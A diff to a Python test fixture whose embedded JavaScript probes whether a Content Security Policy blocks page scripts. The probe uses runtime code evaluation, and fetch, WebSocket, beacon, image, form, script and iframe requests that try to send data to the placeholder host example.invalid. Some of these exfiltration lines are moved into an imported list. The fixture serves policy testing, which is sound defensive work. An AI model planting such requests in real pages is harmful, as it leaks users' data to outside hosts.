@@ -1,6 +1,9 @@
 """What a script in a page might try, and what a policy has to refuse."""
 
-ATTACKS = """async () => {
+from ways_out import WAYS_OUT
+
+ATTACKS = (
+    """async () => {
   const told = [];
   addEventListener("securitypolicyviolation", ({effectiveDirective}) => told.push(effectiveDirective));
   const done = {};
@@ -16,20 +19,17 @@ ATTACKS = """async () => {
   try { new Function("window.broken = true")(); } catch { done.Function = true; }
   try { await fetch("https://example.invalid/?answer=1"); } catch { done.fetch = true; }
   try { new WebSocket("wss://example.invalid/"); } catch { }
-  navigator.sendBeacon("https://example.invalid/", "answer");
-  const picture = new Image();
-  picture.src = "https://example.invalid/answer.png";
   const outside = document.createElement("script");
   outside.src = "https://example.invalid/x.js";
   document.head.append(outside);
   const frame = document.createElement("iframe");
   frame.src = "https://example.invalid/";
   document.body.append(frame);
-  const form = document.createElement("form");
-  form.action = "https://example.invalid/";
-  document.body.append(form);
-  form.submit();
+"""
+    + WAYS_OUT
+    + """
   await new Promise((go) => setTimeout(go, 400));
   return {broken: window.broken === true, done, told: [...new Set(told)].sort()};
 }"""
+)
 REFUSED = ["connect-src", "form-action", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"]
